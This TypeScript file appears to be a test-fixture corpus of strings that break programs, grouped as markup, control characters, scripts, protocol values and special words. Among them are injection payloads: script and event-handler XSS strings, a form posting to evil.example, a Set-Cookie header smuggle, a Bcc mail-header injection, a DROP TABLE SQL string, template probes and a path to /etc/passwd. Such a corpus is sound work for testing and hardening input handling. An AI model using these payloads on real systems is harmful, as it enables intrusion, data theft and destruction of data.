/**
 * Texts that break programs: what attackers type into forms, and what keyboards, spreadsheets and other programs produce
 * by accident.
 */

export const markup = {
  'a script': '<script>window.wasRun=1</script>',
  'a script that ends its element':
    '"\'`></title></textarea></style></script><script>window.wasRun=1</script>',
  'an image with a handler': '<img src=x onerror=window.wasRun=1>',
  'a handler for an attribute with double quotes': '" autofocus onfocus="window.wasRun=1',
  'a handler for an attribute without quotes': 'x onmouseover=window.wasRun=1',
  'a frame': '<iframe srcdoc="<script>parent.wasRun=1</script>">',
  'a form': '</form><form action=https://evil.example><input name=last_name>',
  'a mutating table': '<table><a href=x><svg><style><!--</style><img src=x onerror=window.wasRun=1>',
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &notanentity;',
  'full-width brackets': '＜script＞window.wasRun=1＜/script＞',
};

export const controls = {
  NUL: 'a\0b',
  'every control character':
    Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007F\u0085\u009F',
  'an escape sequence of a terminal': '\u001B[2J\u001B]0;owned\u0007\u009B31m',
  'line breaks of every kind': 'a\nb\rc\r\nd\u2028e\u2029f\u0085g\vh\fi',
  'spaces of every kind': 'a\u00A0b\u1680c\u2003d\u202Fe\u3000f',
  'a right-to-left override': 'photo\u202Egpj.exe',
  'direction isolates left open': '\u2066\u2067\u2068a',
  'zero width': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
};

const scripts = {
  'a name in Telugu': 'శ్రీనివాస్',
  'many combining marks': `Z${'\u0300\u0316\u0489'.repeat(12)}`,
  'a family in one emoji': '👩‍👩‍👧‍👦',
  'the halves in the wrong order': '\uDE00\uD83D',
};

export const protocols = {
  'a header smuggled in': 'a\r\nSet-Cookie: owned=1\r\n\r\n<script>window.wasRun=1</script>',
  'a mail header': 'asha@example.com\r\nBcc: all@example.com',
  'an escape cut short': '%E0%A4%A',
  'separators of a form': 'a&oid=00D000000000001AAA&b=c;d+e#f?g',
  'SQL that drops a table': "'); DROP TABLE leads; --",
  'a template': '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
  'a replacement pattern': "$& $1 $` $' $$",
  'a path out of the folder': '../../../../etc/passwd',
  JSON: '{"version":1,"id":null}',
};

const words = {
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a formula': '=1+1',
};

/** By name. Sparse on purpose: each is there for a reason of its own. */
export const corpus: Readonly<Record<string, string>> = {
  ...markup,
  ...controls,
  ...scripts,
  ...protocols,
  ...words,
  nothing: '',
  'spaces alone': '   ',
};
